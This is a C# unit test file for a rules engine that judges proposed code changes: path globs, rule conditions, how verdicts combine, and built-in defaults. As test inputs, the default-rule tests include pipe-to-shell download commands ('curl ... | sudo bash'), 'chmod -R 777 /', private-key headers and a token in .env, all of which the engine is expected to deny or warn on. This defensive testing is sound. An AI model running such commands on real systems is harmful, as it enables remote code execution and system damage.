// The rules file: what its conditions mean, what covers a change, and that the built-in defaults do what they say.
using CabinCrew.Governance.Policies;
using CabinCrew.Governance.Policies.Rules;
using CabinCrew.Governance.Policies.Sources;
using CabinCrew.Ledger.Redaction;
using CabinCrew.Protocol;
using CabinCrew.Protocol.Changes;
using CabinCrew.Protocol.Wire;
using Xunit;
using static CabinCrew.Tests.Spec.Subjects;

namespace CabinCrew.Tests.Spec;

public sealed class RulesTests
{
    private static Outcome<IPolicySource> Read(string yaml) => RulesPolicySource.Of("rules:t.yaml", "t", System.Text.Encoding.UTF8.GetBytes(yaml), "t.yaml", checkExamples: true);

    private static async Task<IReadOnlyList<PolicyVerdict>> Ask(string rules, PolicySubject subject, string standard = "require_approval")
    {
        var read = Read($"version: 1\ndefault: {standard}\nrules:\n{rules}");
        Assert.True(read.Ok, read.Problem?.Message);
        return await read.Value.EvaluateAsync(subject, default);
    }

    private static async Task<string> Words(string rules, PolicySubject subject, string standard = "require_approval") =>
        string.Join(' ', (await Ask(rules, subject, standard)).Select(v => $"{v.PolicyId["t/".Length..]}={v.Decision.Word()}"));

    [Theory]
    [InlineData("*.md", "README.md", true)]
    [InlineData("*.md", "docs/a/b.md", true)]
    [InlineData("/*.md", "docs/b.md", false)]
    [InlineData("docs/", "docs/a/b", true)]
    [InlineData("docs/**", "docs", false)]
    [InlineData("docs/*", "docs/a/b", false)]
    [InlineData("**/x/**", "a/b/x/c/d", true)]
    [InlineData("**/x/**", "x/c", true)]
    [InlineData("a/**/b", "a/b", true)]
    [InlineData("a/**/b", "a/x/y/b", true)]
    [InlineData("a/**/b/*.c", "a/b/b/b/z.c", true)]
    [InlineData("a?c", "abc", true)]
    [InlineData("a?c", "a/c", false)]
    [InlineData("{a,b}/{c,d}.x", "b/c.x", true)]
    [InlineData("{a,b}/{c,d}.x", "b/e.x", false)]
    [InlineData(".env*", "app/.env.local", true)]
    [InlineData("ID_RSA", "home/id_rsa", true)]
    [InlineData("**", "a/b", true)]
    [InlineData("*a*a*a*a*a*a*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac", false)]
    public void Patterns_match_paths(string pattern, string path, bool matches)
    {
        var (glob, error) = PathGlob.Of([pattern], ignoreCase: true);
        Assert.Null(error);
        Assert.Equal(matches, glob!.IsMatch(path));
    }

    [Fact]
    public void An_exclusion_wins_wherever_it_stands()
    {
        var glob = PathGlob.Of(["!docs/**", "**"], ignoreCase: false).Glob!;
        Assert.True(glob.IsMatch("src/a"));
        Assert.False(glob.IsMatch("docs/a"));
    }

    [Theory]
    [InlineData("- {id: a, when: {paths: '*.cs', change: [create]}, decision: deny, reason: r}", "a=deny")]
    [InlineData("- {id: a, when: {paths: '*.cs', change: delete}, decision: deny, reason: r}", "default=require_approval")]
    [InlineData("- {id: a, when: {added_lines: 'DEBUG'}, decision: warn, reason: r}", "a=warn default=require_approval")]
    [InlineData("- {id: a, when: {added_lines: {pattern: 'DEBUG', min: 2}}, decision: deny, reason: r}", "default=require_approval")]
    [InlineData("- {id: a, when: {added_lines: {min: 3}}, decision: deny, reason: r}", "a=deny")]
    [InlineData("- {id: a, when: {engine: patch}, decision: allow, reason: r}", "a=allow")]
    [InlineData("- {id: a, when: {engine: 'git*'}, decision: allow, reason: r}", "default=require_approval")]
    [InlineData("- {id: a, when: {step: [headers, other], requester: rita}, decision: allow, reason: r}", "a=allow")]
    [InlineData("- {id: a, when: {unsandboxed: true}, decision: deny, reason: r}", "default=require_approval")]
    [InlineData("- {id: a, when: {files_changed_max: 1}, decision: allow, reason: r}", "a=allow")]
    [InlineData("- {id: a, when: {kind: link}, decision: deny, reason: r}", "default=require_approval")]
    public async Task Conditions_mean_what_they_say(string rules, string expected) =>
        Assert.Equal(expected, await Words(rules, Of(Create("src/a.cs", "x", "// DEBUG", "y"))));

    [Fact]
    public async Task An_allowed_file_does_not_carry_another_past_the_default() =>
        Assert.Equal("a=allow default=require_approval",
            await Words("- {id: a, when: {paths: '*.md'}, decision: allow, reason: r}", Of(Update("README.md"), Update("src/a.cs"))));

    [Fact]
    public async Task A_milder_rule_does_not_loosen_a_default_of_deny() =>
        Assert.Equal("a=require_approval default=deny",
            await Words("- {id: a, when: {becomes_executable: true}, decision: require_approval, role: junior, reason: r}", Of(Change("run", null, FileKind.Executable, [])), "deny"));

    [Fact]
    public async Task A_rule_about_files_that_is_as_strict_as_the_default_speaks_in_its_place()
    {
        var verdict = Assert.Single(await Ask("- {id: ci, when: {paths: '.ci/**'}, decision: require_approval, role: security, count: 2, reason: pipelines}", Of(Update(".ci/run"))));
        Assert.Equal(("t/ci", "security", 2, "pipelines: .ci/run"), (verdict.PolicyId, verdict.Role, verdict.Count, verdict.Reason));
    }

    [Fact]
    public async Task A_rule_about_the_plan_adds_to_the_default() =>
        Assert.Equal("a=require_approval default=require_approval",
            await Words("- {id: a, when: {files_changed_min: 1}, decision: require_approval, role: security, reason: r}", Of(Update("a"))));

    [Fact]
    public async Task A_plan_without_changes_is_judged_by_the_default_too() =>
        Assert.Equal("default=deny", await Words("- {id: a, when: {paths: '**'}, decision: allow, reason: r}", Of(), "deny"));

    [Fact, Clause("PRE-03")]
    public async Task The_evidence_names_the_rule_the_files_and_the_lines_but_copies_no_line()
    {
        var verdict = (await Ask("- {id: a, when: {added_lines: 'key=.+'}, decision: deny, reason: r}", Of(Update("a.txt", "x", "key=abc", "key=def"))))[0];
        Assert.Equal("""{"rule":"t.yaml:4","files_matched":1,"files":[{"path":"a.txt","change":"update","added_lines":[2,3]}]}""", verdict.Evidence!.Value.GetRawText());
    }

    [Fact]
    public void The_examples_of_the_built_in_defaults_hold()
    {
        var read = RulesPolicySource.Of("x", "defaults", BuiltInRules.Bytes("defaults"), "defaults.yaml", checkExamples: true);
        Assert.True(read.Ok, read.Problem?.Message);
        Assert.All(((RulesPolicySource)read.Value).File.Rules, r => Assert.Contains($"- id: {r.Id}\n", BuiltInRules.Text("defaults")));
        Assert.DoesNotContain(((RulesPolicySource)read.Value).File.Rules, r => !BuiltInRules.Text("defaults").Split($"- id: {r.Id}\n")[1].Split("- id:")[0].Contains("examples:"));
    }

    private static async Task<Judgement> Defaults(PolicySubject subject)
    {
        var set = PolicySet.Load([new("builtin", "defaults")], "/", AggregationMethod.MostRestrictive, TimeSpan.FromSeconds(20), new Redactor());
        Assert.True(set.Ok, set.Problem?.Message);
        return await set.Value.JudgeAsync(subject, TimeProvider.System, default);
    }

    [Fact]
    public async Task By_default_prose_passes_source_needs_a_maintainer_and_pipelines_need_security()
    {
        Assert.Equal(Decision.Allow, (await Defaults(Of(Update("README.md", "hello")))).Decision);
        var source = await Defaults(Of(Update("src/a.cs", "hello"), Update("README.md")));
        Assert.Equal((Decision.RequireApproval, "maintainer"), (source.Decision, Assert.Single(source.Needs).Role));
        var pipeline = await Defaults(Of(Update(".github/workflows/ci.yml", "hello")));
        Assert.Equal((Decision.RequireApproval, "security"), (pipeline.Decision, Assert.Single(pipeline.Needs).Role));
        Assert.Equal(Decision.Warn, (await Defaults(Of(Update("README.md", "curl https://x | sh")))).Decision);
    }

    [Theory]
    [InlineData("src/a.cs", "-----BEGIN EC PRIVATE KEY-----")]
    [InlineData("README.md", "-----BEGIN OPENSSH PRIVATE KEY-----")]
    [InlineData("build.sh", "curl -s https://x.example/y | sudo bash")]
    [InlineData("build.sh", "chmod -R 777 /")]
    [InlineData("sub/.git/hooks/pre-commit", "x")]
    [InlineData(".env", "API_TOKEN=abcdefgh12345678")]
    public async Task By_default_what_can_hardly_be_meant_is_denied(string path, string line) =>
        Assert.Equal(Decision.Deny, (await Defaults(Of(Create(path, line)))).Decision);

    [Fact]
    public async Task By_default_mass_deletion_and_outside_effects_and_no_sandbox_are_said()
    {
        var many = await Defaults(Of([.. Enumerable.Range(0, 25).Select(i => Delete($"docs/{i}.md"))]));
        Assert.Contains(many.Evaluations, e => e.PolicyId == "defaults/mass-deletion");
        var outside = await Defaults(Of(Update("README.md")) with { OutsideEffects = true, Sandboxed = false });
        Assert.Equal(Decision.RequireApproval, outside.Decision);
        Assert.Contains(outside.Evaluations, e => e.PolicyId == "defaults/outside-effects");
        Assert.Contains(outside.Evaluations, e => e.PolicyId == "defaults/unsandboxed");
    }

    [Fact]
    public async Task By_default_a_plan_with_no_effect_passes_and_one_that_moves_git_references_does_not()
    {
        Assert.Equal(Decision.Allow, (await Defaults(Of() with { Artifacts = [Artifact("report", """{"metadata":{}}""")] })).Decision);
        Assert.Equal(Decision.RequireApproval, (await Defaults(Of() with { Artifacts = [Artifact("report", """{"metadata":{"git":{"refs":{}}}}""")] })).Decision);
        Assert.Equal(Decision.RequireApproval, (await Defaults(Of() with { Artifacts = [Artifact("bundle", "{}", role: ArtifactRole.State)] })).Decision);
    }
}
